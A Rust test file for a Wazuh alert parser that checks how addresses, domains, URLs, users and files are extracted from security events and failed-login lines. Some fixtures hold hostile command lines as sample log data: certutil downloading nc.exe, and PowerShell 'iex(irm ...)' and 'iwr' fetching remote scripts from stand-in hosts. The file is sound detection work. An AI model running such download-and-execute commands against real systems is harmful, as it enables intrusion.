//! Fields whose meaning depends on who wrote them, or on what is in them.

use serde_json::{Value, json};
use wazuh_model::UserPart;

use super::{MD5, SHA256, alert, expect, indicators_of};

#[test]
fn short_names_are_ends_only_where_they_hold_addresses() {
    for data in [
        json!({"src": "203.0.113.9", "dst": "203.0.113.66"}),
        json!({"event": {"src": "203.0.113.9", "dst": "203.0.113.66"}}),
    ] {
        expect(
            &json!({ "data": data }),
            &[("ip-src", "203.0.113.9"), ("ip-dst", "203.0.113.66")],
        );
    }
    let notice = alert(&json!({"data": {"note": "Scan::Port_Scan", "src": "203.0.113.9", "dst": "10.0.0.5"}}));
    let actors = notice.actors();
    assert_eq!(actors.sources[0].ip.as_deref(), Some("203.0.113.9"));
    assert_eq!(actors.destinations[0].ip.as_deref(), Some("10.0.0.5"));
    for other in [
        json!({"src": "inside", "dst": "outside"}),
        json!({"src": "http://shop.test-org.com/a.js", "dst": "/srv/8.8.4.4/x"}),
        json!({"src": "inside:8.8.4.4/443", "dst": "8.8.4.4.example"}),
        json!({"dst_src": "8.8.4.4", "source": "8.8.4.4"}),
    ] {
        let value = json!({ "data": other });
        expect(&value, &[]);
        let alert = alert(&value);
        assert!(
            alert.actors().sources.is_empty() && alert.actors().destinations.is_empty(),
            "{value}"
        );
    }
    expect(&json!({"rule": {"src": "8.8.4.4"}, "agent": {"dst": "8.8.4.4"}}), &[]);
    // Whatever else stands there still tells alerts apart.
    let key = |interface: &str| {
        let value = json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": {"src": interface, "x": "y"}});
        alert(&value).fingerprint().key
    };
    assert_ne!(key("inside"), key("outside"));
}

#[test]
fn fields_of_fortigate_and_yara_are_what_they_hold() {
    expect(
        &json!({"data": {"srcip": "10.0.0.50", "dstip": "10.0.0.3", "qname": "c2.evil.example", "ipaddr": "203.0.113.66"}}),
        &[("domain", "c2.evil.example"), ("ip-any", "203.0.113.66")],
    );
    expect(&json!({"data": {"analyticscksum": SHA256}}), &[("sha256", SHA256)]);
    let tunnel = json!({"data": {"remip": "203.0.113.9", "locip": "203.0.113.66"}});
    expect(&tunnel, &[("ip-src", "203.0.113.9")]);
    let tunnel = alert(&tunnel);
    let actors = tunnel.actors();
    assert_eq!((actors.sources.len(), actors.destinations.len()), (1, 1));
    let found = alert(&json!({"data": {"yara_rule": "x", "yara_scanned_file": "/tmp/x.bin"}}));
    assert_eq!(found.actors().files, ["/tmp/x.bin"]);
    expect(
        &json!({"data": {"qname": "dc01.corp.local", "analyticscksum": "x"}}),
        &[],
    );
}

#[test]
fn a_decoder_may_put_a_file_or_a_name_where_others_have_a_url() {
    let of = |decoder: &str, data: Value| json!({"decoder": {"name": decoder}, "data": data});
    let infected = of(
        "clamd",
        json!({"url": "/home/bob/a.exe", "extra_data": "Win.Trojan.X", "id": MD5}),
    );
    expect(&infected, &[("md5", MD5)]);
    let infected = alert(&infected);
    let actors = infected.actors();
    assert_eq!(
        (actors.files.as_slice(), actors.urls.len()),
        (&["/home/bob/a.exe".into()][..], 0)
    );
    expect(&of("clamd", json!({"url": "/home/bob/a.exe", "id": "393"})), &[]);
    expect(
        &of("unbound", json!({"srcip": "10.0.0.50", "url": "c2.evil.example"})),
        &[("domain", "c2.evil.example")],
    );
    // Elsewhere an id is none, and a URL is one.
    let asked = of("web-accesslog", json!({"url": "/home/bob/a.exe", "id": MD5}));
    expect(&asked, &[]);
    assert_eq!(alert(&asked).actors().urls, ["/home/bob/a.exe"]);
    expect(&of("web-accesslog", json!({"url": "c2.evil.example"})), &[]);
}

const REMOTE_DESKTOP: &str = "Microsoft-Windows-TerminalServices-RemoteConnectionManager";

#[test]
fn only_remote_desktop_has_an_account_in_its_first_value() {
    let event = |provider: &str, id: &str| {
        let value = json!({"data": {"win": {"system": {"providerName": provider, "eventID": id},
            "eventXML": {"param1": "administrator", "param2": "CORP", "param3": "203.0.113.9"}}}});
        let alert = alert(&value);
        let actors = alert.actors();
        let users = actors.users.iter().map(|user| (user.name.to_string(), user.part));
        (users.collect::<Vec<_>>(), actors.sources.len())
    };
    assert_eq!(
        event(REMOTE_DESKTOP, "1149"),
        (vec![("administrator".to_owned(), UserPart::Target)], 1)
    );
    assert_eq!(event("Microsoft-Windows-Other", "1149"), (vec![], 1));
    // There it is an address, or the name of a server.
    for other in ["1158", "20499"] {
        assert_eq!(event(REMOTE_DESKTOP, other), (vec![], 1));
    }
}

#[test]
fn the_commands_of_defenders_list_are_looked_through() {
    let found = |list: &str| {
        json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Windows Defender", "eventID": "1116"},
            "eventdata": {"path": list, "threat Name": "Trojan:Win32/X"}}}})
    };
    let fetched = found(
        "CmdLine:_C:\\\\Windows\\\\System32\\\\certutil.exe -urlcache -f http://203.0.113.66/nc.exe C:\\\\Users\\\\Public\\\\nc.exe",
    );
    expect(
        &fetched,
        &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/nc.exe")],
    );
    let fetched = alert(&fetched);
    let actors = fetched.actors();
    assert_eq!(
        actors.process.unwrap().command_line.as_deref(),
        Some(r"C:\Windows\System32\certutil.exe -urlcache -f http://203.0.113.66/nc.exe C:\Users\Public\nc.exe")
    );
    assert_eq!((actors.files.len(), actors.urls.len()), (0, 1));
    let both =
        found("CmdLine:_C:\\\\p.exe -c cd C:\\\\x; iex(irm https://evil.example/a); file:_C:\\\\Users\\\\eva\\\\a.ps1");
    expect(&both, &[("domain", "evil.example"), ("url", "https://evil.example/a")]);
    let both = alert(&both);
    let actors = both.actors();
    assert_eq!(actors.files, [r"C:\Users\eva\a.ps1"]);
    assert_eq!(
        actors.process.unwrap().command_line.as_deref(),
        Some(r"C:\p.exe -c cd C:\x; iex(irm https://evil.example/a)")
    );
    // What was found and which command it was tell alerts apart.
    let key = |list: &str| alert(&found(list)).fingerprint().key;
    assert_ne!(key("CmdLine:_C:\\\\p.exe -c a"), key("CmdLine:_C:\\\\p.exe -c b"));
    let keys = |one: &str, other: &str| {
        let of = |list: &str| alert(&found(list)).fingerprint();
        let [one, other] = [of(one), of(other)];
        (one.key, one.distinct) == (other.key, other.distinct)
    };
    let start = "CmdLine:_C:\\\\p.exe -c whoami; zz:_; ";
    for other in ["iex(irm http://evil.example/a)", "CmdLine:_rm C:\\\\x", "amsi:_x"] {
        assert!(
            !keys(&format!("{start}rm C:\\\\x"), &format!("{start}{other}")),
            "{other}"
        );
    }
    // All of it is shown, and what is no file behind the files.
    let all = alert(&found(
        "CmdLine:_a.exe; CmdLine:_b.exe; amsi:_C:\\\\p.exe; file:_C:\\\\a.ps1",
    ));
    assert_eq!(all.actors().files, [r"C:\a.ps1", "CmdLine:_b.exe", r"amsi:_C:\p.exe"]);
    // What is neither stands as it is.
    let running = alert(&found("process:_pid:4692,ProcessStart:1"));
    assert_eq!(running.actors().files, ["process:_pid:4692,ProcessStart:1"]);
}

#[test]
fn each_address_of_a_list_is_an_end() {
    let ends = |value: &Value| {
        let alert = alert(value);
        let actors = alert.actors();
        let ends = actors.sources.iter().chain(&actors.destinations);
        ends.map(|end| (end.ip.as_deref().unwrap_or_default().to_owned(), end.port))
            .collect::<Vec<_>>()
    };
    let two = || vec![("203.0.113.9".to_owned(), None), ("10.0.0.1".to_owned(), None)];
    // Of a list of proxies the nearest wrote the last.
    for value in [
        json!({"data": {"sourceIPs": ["10.0.0.1", "203.0.113.9"], "user": {"username": "system:anonymous"}}}),
        json!({"data": {"sourceIPs": "10.0.0.1, 203.0.113.9"}}),
        json!({"data": {"clientip": "10.0.0.1, 203.0.113.9"}}),
        json!({"data": {"clientip": "10.0.0.1, unknown, 203.0.113.9"}}),
        json!({"data": {"srcip": "10.0.0.1,203.0.113.9"}}),
        json!({"data": {"clientip": "10.0.0.1:50123, 203.0.113.9:80"}}),
        json!({"source": {"ip": ["10.0.0.1", "203.0.113.9"]}}),
        json!({"destination": {"ip": ["203.0.113.9", "10.0.0.1"]}}),
        json!({"data": {"dstip": "203.0.113.9, 10.0.0.1"}}),
        // Of no end.
        json!({"data": {"ipaddr": "203.0.113.9, 10.0.0.1"}}),
    ] {
        let alike: Vec<_> = ends(&value)
            .into_iter()
            .map(|(ip, port)| (ip, port.filter(|port| *port != 80)))
            .collect();
        assert_eq!(alike, two(), "{value}");
    }
    for value in [
        json!({"related": {"ip": ["203.0.113.9", "10.0.0.1"]}}),
        json!({"data": {"win": {"eventdata": {"queryResults": "::ffff:203.0.113.9;10.0.0.1;"}}}}),
    ] {
        assert_eq!(ends(&value), [], "{value}");
    }
    let behind_a_proxy = json!({"data": {"clientip": "203.0.113.9, unknown"}});
    assert_eq!(ends(&behind_a_proxy), [("203.0.113.9".to_owned(), None)]);
    // It is news when another one is among them.
    let news = |second: &str| {
        let value =
            json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": {"clientip": ["203.0.113.9", second], "x": "y"}});
        alert(&value).fingerprint().distinct
    };
    assert_ne!(news("10.0.0.1"), news("10.0.0.2"));
}

#[test]
fn what_stands_for_no_value_is_none() {
    for nothing in ["N/A", "n/a", "(none)", "-", ""] {
        let value = json!({"data": {"user": nothing, "dst_host": nothing, "action": "tunnel-up", "file": nothing}});
        let alert = alert(&value);
        let actors = alert.actors();
        assert!(
            actors.users.is_empty()
                && actors.domains.is_empty()
                && actors.files.is_empty()
                && actors.destinations.is_empty(),
            "{value}"
        );
    }
    let named = alert(&json!({"data": {"user": "none"}}));
    assert_eq!(named.actors().users[0].name, "none");
    // An account of Windows may be called so, and any other that is so called tells alerts apart.
    for name in ["N/A", "n/a", "(none)", "null", "(null)"] {
        let of = |name: &str| json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": {"win": {"eventdata": {"targetUserName": name}}}});
        assert_eq!(alert(&of(name)).actors().users[0].name, name);
    }
    assert!(
        alert(&json!({"data": {"win": {"eventdata": {"targetUserName": "-"}}}}))
            .actors()
            .users
            .is_empty()
    );
    let news = |name: &str| {
        let value = json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": {"dstuser": name, "x": "y"}});
        alert(&value).fingerprint().distinct
    };
    assert!(news("N/A") != news("(none)") && news("-") != news("N/A"));
}

#[test]
fn the_domain_of_an_account_in_evidence_is_no_name_of_the_internet() {
    let evidence = |account: &str| {
        json!({"data": {"ms-graph": {"evidence": [{"deviceDnsName": "ws-1.corp.test-org.com"},
            {account: {"userPrincipalName": "eva", "domainName": "corp.test-org.com"}}]}}})
    };
    for account in ["userAccount", "loggedOnUsers"] {
        expect(&evidence(account), &[]);
        let alert = alert(&evidence(account));
        assert_eq!(alert.actors().users[0].domain.as_deref(), Some("corp.test-org.com"));
    }
    let seen = json!({"data": {"ms-graph": {"evidence": [{"domainName": "evil.example"}]}}});
    expect(&seen, &[("domain", "evil.example")]);
}

#[test]
fn the_machine_of_a_sensor_is_no_end_of_a_connection() {
    let detected = |name: &str| json!({"data": {"event": {"ComputerName": "WS-1", name: "8.8.4.4"}}});
    expect(&detected("LocalIP"), &[]);
    assert!(alert(&detected("LocalIP")).actors().destinations.is_empty());
    assert_eq!(indicators_of(&detected("RemoteIP")), [("ip-src", "8.8.4.4".to_owned())]);
}

/// An alert of a failed log-on with this line.
fn refused(line: &str) -> Value {
    json!({"rule": {"groups": ["syslog", "authentication_failed"]}, "agent": {"id": "001", "name": "x", "ip": "8.8.4.4"}, "full_log": line})
}

fn sources(value: &Value) -> Vec<String> {
    let alert = alert(value);
    let ends = alert.actors().sources.into_iter();
    ends.filter_map(|end| end.ip.map(std::borrow::Cow::into_owned))
        .collect()
}

#[test]
fn the_client_of_a_refused_log_on_stands_directly_behind_the_mark_of_its_program() {
    // 45.77.65.211 is what a client chose for an account, a greeting or a database.
    for line in [
        "2017-01-23T03:44:14Z 8 Connect\tAccess denied for user 'root'@'CLIENT' (using password: YES)",
        "2026-11-29T14:59:00.000000Z 8 [Note] [MY-010926] [Server] Access denied for user '45.77.65.211'@'CLIENT' (using password: NO)",
        "[Warning] Access denied for user 'x'@'45.77.65.211' (using password: YES)'@'CLIENT' (using password: YES)",
        "[2026-11-29 14:59:00.000 CET] CLIENT(40000) postgres@prod FATAL:  password authentication failed for user \"postgres\"",
        "Nov 29 14:59:00 db postgres[7]: [5-1] CLIENT(40000) FATAL:  password authentication failed for user \"postgres\"",
        "[2026-11-29 14:59:00.000 CET] CLIENT(40000) x FATAL:  password authentication failed for user \"45.77.65.211\"",
        "2017-01-23 03:44:14 dovecot_login authenticator failed for (hydra) [CLIENT]:35686: 535 Incorrect (set_id=user)",
        "2017-01-23 03:44:14 [77] login authenticator failed for mail.test-org.com (x) [CLIENT]: 535 Incorrect (set_id=user)",
        "2017-01-23 03:44:14 dovecot_login authenticator failed for ([45.77.65.211]) [CLIENT]:35686: 535 Incorrect (set_id=45.77.65.211)",
        "2026-11-29 14:59:00,000 fail2ban.actions [700]: NOTICE [sshd] Ban CLIENT",
        "hostd[2099] [Originator@6876] Event 77 : Cannot login root@CLIENT",
        "hostd[2099] [Originator@6876] Event 77 : Cannot login root@45.77.65.211@CLIENT",
        "date=2016-06-17 devname=f1 user=\"root\" ui=ssh(CLIENT) action=login status=failed",
        "date=2016-06-17 logid=0100032002 user=\"45.77.65.211\" ui=\"https(CLIENT)\" method=\"https\" action=\"login\" status=\"failed\" msg=\"x from fctver=7.0.1.83\"",
        "asa01 : %ASA-6-113015: AAA user authentication Rejected : reason = Invalid : server = 82.165.1.10 : user = bob : user IP = CLIENT",
        "asa01 : %ASA-6-113015: AAA user Rejected : server = 10.0.0.3 : user = x : user IP = 45.77.65.211 : user IP = CLIENT",
    ] {
        let of = |client: &str| refused(&line.replace("CLIENT", client));
        expect(&of("203.0.113.9"), &[("ip-src", "203.0.113.9")]);
        // One of one's own is what it is, whatever else stands in the line.
        for client in ["203.0.113.9", "10.10.2.21", "8.8.4.4"] {
            assert_eq!(sources(&of(client)), [client], "{line}");
        }
        expect(&of("10.10.2.21"), &[]);
        expect(&of("8.8.4.4"), &[]);
    }
}

#[test]
fn an_address_at_any_other_place_of_a_refused_log_on_is_nobodys() {
    for line in [
        "sshd[1]: Failed password for invalid user 45.77.65.211 from host.evil.example port 22 ssh2",
        "sshd[1]: Failed password for invalid user x] Ban 45.77.65.211 from host.evil.example port 22 ssh2",
        "postgres[1]: FATAL:  password authentication failed for user \"45.77.65.211\"",
        // Accounts and databases, in front.
        "[2026-11-29 14:59:00.000 CET] 203.0.113.9(40000) postgres@x 45.77.65.211(22) FATAL:  password authentication failed for user \"postgres\"",
        "[2026-11-29 14:59:00.000 CET] x 45.77.65.211(22) @db FATAL:  password authentication failed for user \"x 45.77.65.211(22) \"",
        "[2026-11-29 14:59:00.000 CET] x@x 45.77.65.211(22) FATAL:  password authentication failed for user \"x\"",
        "[2026-11-29 14:59:00.000 CET] x 45.77.65.211(22) FATAL:  password authentication failed for user \"x\"",
        "[2026-11-29 14:59:00.000 CET] host.evil.example(40000) x 45.77.65.211(22) FATAL:  password authentication failed for user \"y\"",
        "10.0.0.9 FATAL:  password authentication failed for user \"45.77.65.211(2) FATAL:  password authentication failed for user \"x\"",
        "Access denied for user 'x'@'45.77.65.211' (using password: YES)",
        "[Warning] Access denied for user 'x'@'host.evil.example' (using password: YES)",
        "[Warning] Access denied for user 'x'@'10.0.0.9' to database 'a'@'45.77.65.211' (using password: YES)'",
        "2017-01-23 03:44:14 dovecot_login authenticator failed for x.evil.example [10.0.0.9]: 535 Incorrect (set_id=x) [45.77.65.211]:1: )",
        "sshd[1]: Failed password for invalid user x authenticator failed for (x) [45.77.65.211]: from host.evil.example port 22",
        "sudo: eve : PWD=/ ; USER=root ; COMMAND=/usr/bin/ssh root@45.77.65.211",
        "asa01 : %ASA-6-113015: AAA user Rejected : server = 45.77.65.211 : user = x",
        "1700000000.123 0 10.0.0.9 TCP_DENIED/403 3900 GET http://x.test/ - HIER_NONE/45.77.65.211 text/html",
        "File '/srv/uploads/a ui=ssh(45.77.65.211) action=login b.php' modified",
        "date=2016-06-17 devname=f1 user=\"x ui=ssh(45.77.65.211) \" action=login status=failed fctver=7.0.1.83",
        "date=2016-06-17 devname=f1 user=\"root\" ui=ssh(45.77.65.211) action=edit",
        "fail2ban.actions [700]: NOTICE [sshd] Unban 45.77.65.211",
        "login of root failed: 45.77.65.211",
        "client version 8.1.2.3: login failed",
        "{\"msg\": \"Event 77 : Cannot login root@45.77.65.211",
    ] {
        let value = refused(line);
        let found = indicators_of(&value);
        assert!(
            found.iter().all(|(kind, _)| !kind.starts_with("ip")),
            "{line}: {found:?}"
        );
        assert!(sources(&value).is_empty(), "{line}");
    }
    // Whoever writes files chooses their names.
    let mut file = refused("File '/srv/devname=f1 ui=ssh(45.77.65.211) action=login b.php' modified");
    assert_eq!(sources(&file), ["45.77.65.211"]);
    file["syscheck"] = json!({"path": "x", "event": "modified"});
    assert!(sources(&file).is_empty(), "{file}");
    // What a field says comes first, be it the name of a machine.
    for data in [
        json!({"dstip": "10.0.0.5"}),
        json!({"srcip": "host.evil.example"}),
        json!({"srchost": "host.evil.example"}),
    ] {
        let mut named = refused("[Warning] Access denied for user 'root'@'45.77.65.211' (using password: YES)");
        named["data"] = data;
        assert!(
            indicators_of(&named).iter().all(|(kind, _)| !kind.starts_with("ip")),
            "{named}"
        );
        assert!(sources(&named).is_empty(), "{named}");
    }
}

#[test]
fn the_client_of_sql_server_and_what_powershell_ran_are_read_out_of_their_one_value() {
    let event = |provider: &str, data: &str| json!({"data": {"win": {"system": {"providerName": provider, "eventID": "18456"}, "eventdata": {"data": data}}}});
    let login = "x [CLIENT: 8.8.8.8], Reason: Password did not match.,  [CLIENT: 203.0.113.9]";
    for provider in ["MSSQLSERVER", "MSSQL$PROD"] {
        let value = event(provider, login);
        expect(&value, &[("ip-src", "203.0.113.9")]);
        assert_eq!(alert(&value).actors().sources[0].ip.as_deref(), Some("203.0.113.9"));
    }
    let ran = "NewEngineState=Available HostVersion=5.1.2.3 HostApplication=powershell -c iwr http://203.0.113.66/x.ps1 EngineVersion=5.1.2.4";
    let value = event("PowerShell", ran);
    expect(
        &value,
        &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/x.ps1")],
    );
    assert_eq!(alert(&value).actors().urls, ["http://203.0.113.66/x.ps1"]);
    for (provider, data) in [
        ("MSSQLSERVER", "sa, Reason: x, [CLIENT: <local machine>]"),
        ("MSSQLSERVER", "8.8.8.8 http://8.8.8.8/"),
        ("Other", login),
        ("Other", ran),
    ] {
        expect(&event(provider, data), &[]);
    }
}
